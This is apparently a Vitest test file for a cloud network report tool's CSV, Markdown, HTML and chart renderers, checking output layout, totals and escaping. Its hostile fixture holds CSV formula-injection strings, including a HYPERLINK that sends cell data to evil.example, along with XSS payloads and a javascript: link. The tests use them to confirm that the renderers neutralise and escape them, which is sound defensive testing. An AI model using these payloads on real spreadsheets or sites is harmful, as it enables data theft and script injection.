import { describe, expect, it } from 'vitest';
import { buildReportData } from '../../../src/reports/render/build-report-data';
import { csvCell, renderCsvReport } from '../../../src/reports/render/csv-report.renderer';
import { renderHtmlReport } from '../../../src/reports/render/html-report.renderer';
import { renderMarkdownReport } from '../../../src/reports/render/markdown-report.renderer';
import { CHART_BAR_COLOR, renderRejectedFlowsChart } from '../../../src/reports/render/rejected-flows-chart';
import { REPORT_FORMATS, renderReport } from '../../../src/reports/render/report-renderers';
import { sampleFinding } from '../../support/factories/sample-finding';
import { sampleReportInput } from '../../support/factories/sample-report-input';

const report = buildReportData(sampleReportInput());

/** Minimal RFC 4180 parser, written independently of the renderer, for round-trip checks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = (): void => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      cell += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      endCell();
    } else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

function hostileReport() {
  return buildReportData(
    sampleReportInput({
      title: 'Report <script>alert(1)</script> & "friends"',
      targets: [{ id: 't', name: '<img src=x onerror=alert(1)>', accountId: '1', region: 'r' }],
      findings: [
        {
          id: 'x',
          targetId: '-2+3',
          finding: sampleFinding({
            fingerprint: '@SUM(1+1)',
            traffic: { ...sampleFinding().traffic, peers: [{ address: '</td><script>x()</script>', records: 1 }] },
            suggestedFix: {
              ...sampleFinding().suggestedFix!,
              awsCli: `${hostile}\nline two, with "quotes"`,
              risks: [{ kind: 'k', message: '<b>risk</b> | pipe' }],
            },
          }),
          status: 'open',
          firstDetectedAt: '2026-11-01T01:00:00Z',
          ticket: { system: 'jira', key: 'NET-1', url: 'javascript:alert(1)' },
        },
      ],
      coverageGaps: [{ targetId: 't', resourceType: 'vpc', resourceId: 'vpc-1', reason: 'no <flow> log' }],
    }),
  );
}

describe('CSV renderer', () => {
  it('writes a header and one CRLF-terminated row per finding that round-trips', () => {
    const csv = renderCsvReport(report);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv);
    expect(rows[0]!.slice(0, 8)).toEqual([
      'fingerprint',
      'target_id',
      'target_name',
      'kind',
      'status',
      'lifecycle',
      'classification',
      'severity',
    ]);
    expect(rows).toHaveLength(1 + report.findings.length);
    const header = rows[0]!;
    const first = Object.fromEntries(header.map((h, i) => [h, rows[1]![i]]));
    expect(first).toMatchObject({
      fingerprint: '3f6c1e0a9b2d4c7e',
      target_name: 'production',
      kind: 'rule',
      records: '15',
      fix_verified: 'true',
      ticket: 'NET-42',
    });
    expect(first.aws_cli).toBe(report.findings[0]!.awsCli);
  });

  it('quotes commas, quotes and line breaks and neutralises formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=cmd')).toBe("'\t=cmd");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');

    const rows = parseCsv(renderCsvReport(hostileReport()));
    const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]!]));
    expect(row.fingerprint).toBe("'@SUM(1+1)");
    expect(row.target_id).toBe("'-2+3");
    expect(row.aws_cli).toBe(`'${hostile}\nline two, with "quotes"`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

describe('Markdown renderer', () => {
  const md = renderMarkdownReport(report);

  it('has the summary, services, peers, gaps and findings tables', () => {
    expect(md.startsWith('# Nightly sgdoctor report\n')).toBe(true);
    expect(md).toContain('| Measure | Value | Change |\n| --- | --- | --- |');
    expect(md).toContain(`| Blocked records | ${report.totals.rejectedRecords} | — |`);
    expect(md).toContain('Period: 1 Nov 2026 (UTC) · generated 2 Nov 2026 06:00 UTC');
    expect(md).toContain('Open by severity: critical 0, high 1, medium 0, low 1.');
    expect(md).toContain('| tcp/443 | 15 | 1 |');
    expect(md).toContain('## Scanner activity');
    expect(md).toContain('| tcp/22 | production | 1 | 1 | 1 (tcp/22) | 900 |');
    expect(md).toContain('- subnet `subnet-0b` (target production): no flow log captures REJECT traffic');
    expect(md).toContain('[NET-42](https://example.atlassian.net/browse/NET-42)');
    expect(md).toContain('```bash\naws ec2 authorize-security-group-ingress');
    expect(md).toContain('```hcl\nresource "aws_vpc_security_group_ingress_rule"');
    // every table row has the same number of cells as its header
    const findingsTable = md.split('## Findings\n\n')[1]!.split('\n\n')[0]!.split('\n');
    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length;
    for (const line of findingsTable) expect(cells(line)).toBe(cells(findingsTable[0]!));
  });

  it('escapes pipes, line breaks and HTML inside cells', () => {
    const out = renderMarkdownReport(hostileReport());
    expect(out).toContain('# Report &lt;script&gt;alert(1)&lt;/script&gt; &amp; "friends"');
    expect(out).toContain('- Risk: &lt;b&gt;risk&lt;/b&gt; | pipe');
    expect(out).not.toContain('<script>');
    const findingRow = out.split('\n').find((l) => l.startsWith('| high |'))!;
    expect(findingRow.replace(/\\\|/g, '').split('|')).toHaveLength(10);
  });

  it('shows trend changes with sign and percent', () => {
    const next = buildReportData(sampleReportInput({ id: 'r2', previous: buildReportData(sampleReportInput({ findings: [] })) }));
    expect(renderMarkdownReport(next)).toMatch(/\| Open findings \| 2 \| \+2 \|/);
  });
});

describe('HTML renderer', () => {
  const html = renderHtmlReport(report);

  it('is a self-contained page with no scripts or external resources', () => {
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).not.toMatch(/<script|<link|src="http|@import|url\(/i);
    expect(html).toContain('<style>');
    expect(html).toContain('<svg');
    expect(html.match(/<rect /g)).toHaveLength(24);
    expect(html).toContain('Top blocked services');
    expect(html).toContain('subnet-0b');
    expect(html).toContain('<a href="https://example.atlassian.net/browse/NET-42">NET-42</a>');
  });

  it('lists undecided records by reason and the signals the logs lack, per target by name', () => {
    const out = renderHtmlReport(
      buildReportData(
        sampleReportInput({
          undecided: [
            {
              targetId: 'tgt-prod',
              reason: 'interface-not-in-snapshot',
              meaning: 'the interface is gone',
              records: 12,
              interfaces: ['eni-gone'],
              interfaceCount: 1,
            },
          ],
          degradedSignals: [{ targetId: 'tgt-stage', kind: 'no-tcp-flags', detail: '5 of 9 records', cost: 'late FIN/RST unseen' }],
        }),
      ),
    );
    expect(out).toContain(
      '<td>production</td><td><code>interface-not-in-snapshot</code> <span class="muted">the interface is gone</span></td><td>12</td><td><code>eni-gone</code></td>',
    );
    expect(out).toContain('<td>staging</td><td><code>no-tcp-flags</code> 5 of 9 records</td><td>late FIN/RST unseen</td>');
    const md = renderMarkdownReport(
      buildReportData(
        sampleReportInput({
          undecided: [
            {
              targetId: 'tgt-prod',
              reason: 'icmp-type-rule',
              meaning: 'no ICMP type in flow logs',
              records: 96,
              interfaces: ['eni-a'],
              interfaceCount: 4,
            },
          ],
        }),
      ),
    );
    expect(md).toContain('- undecided `icmp-type-rule` (target production): 96 records on 4 interface(s): no ICMP type in flow logs');
  });

  it('names the targets not analysed and the member accounts not read, by target name, in Markdown and HTML', () => {
    const data = buildReportData(
      sampleReportInput({
        notAnalysed: [{ targetId: 'tgt-stage', analysisId: 'ana-1', status: 'failed', reason: 'snapshot: credentials expired' }],
        accountsNotRead: [
          { targetId: 'tgt-prod', accountId: '222222222222', region: 'eu-west-1', status: 'failed', reason: 'AccessDenied: no role' },
        ],
      }),
    );
    const md = renderMarkdownReport(data);
    expect(md).toContain('- not analysed (target staging): failed: snapshot: credentials expired');
    expect(md).toContain('- account not read (target production): 222222222222 in eu-west-1: failed: AccessDenied: no role');
    const html = renderHtmlReport(data);
    expect(html).toContain('<td>staging</td><td>failed</td><td>snapshot: credentials expired</td>');
    expect(html).toContain('<h3>Member accounts not read</h3>');
    expect(html).toContain('<td>production</td><td><code>222222222222</code> eu-west-1</td><td>failed</td><td>AccessDenied: no role</td>');
  });

  it('names what the flow source could not read, per target, in Markdown and HTML', () => {
    const data = buildReportData(
      sampleReportInput({
        inputNotRead: [
          {
            targetId: 'tgt-prod',
            analysisId: 'ana-7',
            malformedLines: 19,
            incompleteRecords: 0,
            filesSkipped: 1,
            warnings: [{ file: 'flows/passwd.log', message: 'skipped: symbolic link leading outside the data root (not read)' }],
            moreWarnings: 3,
          },
        ],
      }),
    );
    const md = renderMarkdownReport(data);
    expect(md).toContain(
      '- input not read (target production): 19 malformed lines, 0 incomplete records, 1 files skipped; flows/passwd.log: skipped: symbolic link leading outside the data root (not read); 3 more warnings in analysis ana-7',
    );
    const html = renderHtmlReport(data);
    expect(html).toContain('<h3>Flow logs not read</h3>');
    expect(html).toContain('flows/passwd.log');
    expect(html).toContain('3 more warnings in analysis <code>ana-7</code>');
  });

  it('leads with the findings that need a change, names targets, orders severities, labels tiles by what they count', () => {
    expect(html).toContain('<div class="label">Blocked records</div><div class="value">7,110</div>');
    expect(html).not.toContain('Rejected records');
    expect(html).toContain('<title>Nightly sgdoctor report · 1 Nov 2026 (UTC)</title>');
    const severities = [...html.matchAll(/<td><span class="badge"[^>]*>(\w+)<\/span><\/td>/g)].map((m) => m[1]);
    expect(severities).toEqual(['critical', 'high', 'medium', 'low']);
    expect(html).toContain('target production');
    expect(html).not.toContain('target tgt-prod');
    expect(html.indexOf('Findings that may need a change')).toBeLessThan(html.indexOf('Scanner activity'));
    // noise is a table row, not a card
    expect(html.match(/<article class="finding">/g)).toHaveLength(3);
    expect(html).toContain('<td><code>tcp/22</code></td><td>production</td>');
  });

  it('escapes every value from the data', () => {
    const out = renderHtmlReport(hostileReport());
    expect(out).not.toContain('<script>');
    expect(out).not.toContain('<img');
    expect(out).not.toContain('javascript:');
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;friends&quot;');
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(out).toContain('&lt;/td&gt;&lt;script&gt;x()&lt;/script&gt;');
    expect(out).toContain('no &lt;flow&gt; log');
    expect(out).toContain('ticket NET-1');
  });

  it('draws bars proportional to the series in the chart colour', () => {
    const svg = renderRejectedFlowsChart(
      {
        bucketSeconds: 3600,
        points: [
          { start: '2026-11-01T00:00:00Z', rejectedRecords: 50 },
          { start: '2026-11-01T01:00:00Z', rejectedRecords: 100 },
          { start: '2026-11-01T02:00:00Z', rejectedRecords: 0 },
        ],
      },
      { width: 400, height: 200 },
    );
    const heights = [...svg.matchAll(/<rect [^>]*height="([\d.]+)" fill="([^"]+)"/g)].map((m) => [Number(m[1]), m[2]]);
    expect(heights.map(([, c]) => c)).toEqual([CHART_BAR_COLOR, CHART_BAR_COLOR, CHART_BAR_COLOR]);
    expect(heights[0]![0]).toBeCloseTo((heights[1]![0] as number) / 2, 1);
    expect(heights[2]![0]).toBe(0);
    expect(svg).toContain('>100<');
    expect(svg).toContain('11-01 00:00');
  });
});

describe('renderReport', () => {
  it('renders every format with its content type', () => {
    expect(REPORT_FORMATS).toEqual(['json', 'csv', 'markdown', 'html']);
    const json = renderReport(report, 'json');
    expect(json.contentType).toBe('application/json; charset=utf-8');
    expect(JSON.parse(json.body)).toEqual(report);
    expect(renderReport(report, 'csv')).toMatchObject({ extension: 'csv', contentType: expect.stringContaining('text/csv') });
    expect(renderReport(report, 'markdown').extension).toBe('md');
    expect(renderReport(report, 'html').body).toContain('</html>');
  });

  it('renders a report with no findings and no traffic', () => {
    const empty = buildReportData(sampleReportInput({ findings: [], rejectedFlows: [], coverageGaps: [] }));
    for (const format of REPORT_FORMATS) expect(renderReport(empty, format).body.length).toBeGreaterThan(0);
    expect(renderHtmlReport(empty)).toContain('No findings that need a change.');
    expect(renderHtmlReport(empty)).toContain('No scanner activity.');
    expect(renderCsvReport(empty).split('\r\n')).toHaveLength(2);
  });
});
